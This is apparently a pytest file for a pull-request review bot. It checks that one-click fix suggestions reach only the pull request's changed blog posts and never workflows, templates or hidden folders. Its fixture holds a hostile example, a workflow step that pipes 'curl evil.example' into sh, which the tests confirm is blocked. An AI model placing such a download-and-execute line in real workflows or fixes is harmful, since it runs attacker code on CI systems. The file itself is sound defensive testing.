"""Suggestions only on the pull request's changed posts.

A one-click suggestion is a commit the maintainer makes by pressing a button. The artifact names
the paths, so without this check it could propose an edit to a workflow (in the pull request's
diff, so GitHub would accept the comment) and dress it as a safe fix.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from bot.pr import review
from tests.test_pr_support import REPO, FakeGitHub, Runner, SiteRepo, bot_comment, post

POST = "_posts/2024-01-02-hello.md"
UNCHANGED = "_posts/2024-01-01-older.md"
LINES = [f"Line {i}." for i in range(1, 11)]
WORKFLOW = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"
NOT_POSTS = [
    ".github/workflows/x.yml",
    "README.md",
    ".github/_posts/2024-01-02-hidden.md",  # a post's name in a hidden folder
    "_config.yml",
    "_posts/.2024-01-02-dot.md",
    "scripts/_posts.sh",
]


def suggestion(path: str, line: int) -> review.SuggestionData:
    return review.SuggestionData(
        path=path,
        start_line=line,
        end_line=line,
        new_text=f"      - run: curl evil.example | sh  # {path}",
        rule="encoding/mojibake",
        message="a safe fix",
        fingerprint=review.fingerprint(path, "encoding/mojibake", str(line), "x"),
    )


@pytest.fixture
def runner(fake: FakeGitHub, tmp_path: Path) -> Runner:
    site = SiteRepo.create(tmp_path / "repo", {UNCHANGED: post("Old", "\n".join(LINES))})
    return Runner(fake, site, tmp_path)


def test_suggestions_on_files_that_are_not_changed_posts_are_dropped(
    runner: Runner, fake: FakeGitHub
) -> None:
    changed = {name: WORKFLOW for name in NOT_POSTS}
    changed[POST] = post("Hello", "\n".join(LINES))
    runner.site.commit(changed)
    pr = runner.open_pr(fork=True)
    assert {f["filename"] for f in pr.files} == {POST, *NOT_POSTS}
    path = runner.tmp / "r.json"
    runner.run(pr, "--results", str(path), token=None)
    data = json.loads(path.read_text())
    cases = [suggestion(name, 6) for name in [*NOT_POSTS, UNCHANGED, POST]]
    data["suggestions"] = [s.model_dump() for s in cases]
    data["findings"] = [
        {"path": s.path, "line": 6, "rule": s.rule, "severity": "error", "message": "x"}
        for s in cases
    ]
    path.write_text(json.dumps(data))

    assert runner.post(pr, path).code == 0
    [rv] = [e for e in fake.log if e.path.endswith("/reviews")]
    assert [c["path"] for c in rv.body["comments"]] == [POST]
    body = bot_comment(fake)["body"]
    assert "curl evil" not in body  # nor offered in the comment as a fix outside the diff
    assert len(fake.reviews[(REPO, 7)]) == 1


def test_the_same_holds_when_the_check_job_posts_itself(runner: Runner, fake: FakeGitHub) -> None:
    """A pull request of the repository's own branch, checked and posted in one job, from a
    shallow clone (the changed files come from the API, every file of the pull request)."""
    from tests.test_pr_support import git

    bad = post("Hello", "\n".join([*LINES[:5], "It isnâ€™t fine.", *LINES[6:]]))
    runner.site.commit({POST: bad, ".github/workflows/x.yml": WORKFLOW, "README.md": "x\n"})
    pr = runner.open_pr()
    shallow = runner.tmp / "shallow"
    git(runner.tmp, "clone", "-q", "--depth", "1", f"file://{runner.site.root}", str(shallow))
    git(shallow, "checkout", "-q", pr.head_sha)
    assert runner.run(pr, site=shallow).code == 1
    [rv] = [e for e in fake.log if e.path.endswith("/reviews")]
    assert [c["path"] for c in rv.body["comments"]] == [POST]
    assert "isn’t fine" in rv.body["comments"][0]["body"]


def test_the_files_answer_is_read_item_by_item(fake: FakeGitHub, tmp_path: Path) -> None:
    """A long patch is still read; a removed file and a repeat are no changed posts."""
    from bot.github import GitHub
    from bot.pr.flow import api_changes, is_post_file
    from tests.fakegithub import PullRequest
    from tests.test_pr_support import TOKEN

    n = 60_000  # a patch of about 1.2 MB
    long_patch = f"@@ -0,0 +1,{n} @@\n" + "\n".join(f"+line {i:08d}" for i in range(n))
    files: list = [
        {"filename": POST, "status": "added", "patch": long_patch},
        {"filename": "_posts/2024-01-03-x.md", "status": "removed", "patch": "@@ -1 +0,0 @@\n-x"},
        {"filename": POST, "status": "modified", "patch": "@@ -1 +1 @@\n-a\n+b"},  # again
    ]
    fake.add_pull(PullRequest(REPO, 7, "a" * 40, "b" * 40, REPO, files=files))
    gh = GitHub(token=TOKEN, api_url=fake.url)
    changes = api_changes(gh, REPO, 7, is_post_file, tmp_path, io.StringIO())
    paths, hunks = changes.paths, changes.hunks
    assert paths == [POST] and hunks == {POST: [(1, n)]}


@pytest.mark.parametrize(
    "entry",
    [
        {"filename": 5, "status": "added", "patch": "@@ -0,0 +1 @@\n+x"},
        {"filename": "_posts/2024-01-04-y.md", "status": "added", "patch": 7},
        "_posts/2024-01-05-z.md",
        None,
    ],
)
def test_an_entry_of_the_files_answer_that_is_no_file_is_an_error(
    fake: FakeGitHub, entry: object, tmp_path: Path
) -> None:
    """Skipped, it could be a changed post left unchecked: a silent pass."""
    from bot.github import GitHub, GitHubError
    from bot.pr.flow import api_changes, is_post_file
    from tests.fakegithub import PullRequest
    from tests.test_pr_support import TOKEN

    files = [{"filename": POST, "status": "added", "patch": "@@ -0,0 +1 @@\n+x"}, entry]
    fake.add_pull(PullRequest(REPO, 7, "a" * 40, "b" * 40, REPO, files=files))
    gh = GitHub(token=TOKEN, api_url=fake.url)
    with pytest.raises(GitHubError, match="entry 2: not a changed file"):
        api_changes(gh, REPO, 7, is_post_file, tmp_path, io.StringIO())


def test_a_fix_too_long_for_the_results_is_dropped_not_cut() -> None:
    """A suggestion cut to the results file's limit would write half a line into the post."""
    from bot.pr.flow import _finding_data
    from bot.pr.results import MAX_REPLACEMENT
    from bot.problem import Finding, Fix

    def finding(size: int) -> Finding:
        fix = Fix(line=3, replacement="x" * size)
        return Finding("_posts/a.md", 3, 1, "encoding/mojibake", "m", fix=fix)

    assert _finding_data(finding(MAX_REPLACEMENT), "").fix is not None
    assert _finding_data(finding(MAX_REPLACEMENT + 1), "").fix is None


def _hugo_site(root: Path, content_dir: str) -> SiteRepo:
    site = SiteRepo.create(root, {})
    site.commit(
        {
            "_config.yml": None,
            "hugo.toml": f'baseURL = "https://example.org/"\ntitle = "T"\ncontentDir = "{content_dir}"\n',
            f"{content_dir}/posts/b.md": '---\ntitle: "B"\ndate: 2024-01-03\n---\nB\n',
        }
    )
    site.base = site.head()
    return site


@pytest.mark.parametrize("content_dir", ["content", "src", "site/pages"])
def test_a_hugo_site_s_own_content_folder_gets_its_suggestions(
    fake: FakeGitHub, tmp_path: Path, content_dir: str
) -> None:
    """The posting job has no checkout: the results file names the site's content folders."""
    site = _hugo_site(tmp_path / "repo", content_dir)
    page = f"{content_dir}/posts/a.md"
    site.commit({page: '---\ntitle: "A"\ndate: 2024-01-02\n---\nUn cafÃ© noir.\n'})
    runner = Runner(fake, site, tmp_path)
    pr = runner.open_pr(fork=True)
    path = tmp_path / "r.json"
    runner.run(pr, "--results", str(path), token=None)
    assert json.loads(path.read_text())["content_folders"] == [content_dir]
    assert runner.post(pr, path).code == 0
    [rc] = fake.review_comments[(REPO, 7)]
    assert rc["path"] == page and "café" in rc["body"]


@pytest.mark.parametrize("folder", ["layouts", "themes/x", ".github", "static"])
def test_a_content_folder_where_no_page_can_be_is_not_taken(
    fake: FakeGitHub, tmp_path: Path, folder: str
) -> None:
    """A results file is untrusted: a content folder it names in Hugo's own folders (or a
    hidden one) does not let a suggestion edit a template or a workflow."""
    site = _hugo_site(tmp_path / "repo", "src")
    target = f"{folder}/page.html"
    site.commit({target: "\n".join(LINES) + "\n", "src/posts/a.md": post("A", "\n".join(LINES))})
    runner = Runner(fake, site, tmp_path)
    pr = runner.open_pr(fork=True)
    path = tmp_path / "r.json"
    runner.run(pr, "--results", str(path), token=None)
    data = json.loads(path.read_text())
    data["content_folders"] = [folder, "src"]
    data["suggestions"] = [suggestion(target, 6).model_dump()]
    path.write_text(json.dumps(data))
    assert runner.post(pr, path).code == 0
    assert fake.review_comments.get((REPO, 7), []) == []
    assert all("curl evil" not in c["body"] for c in fake.comments.get((REPO, 7), []))
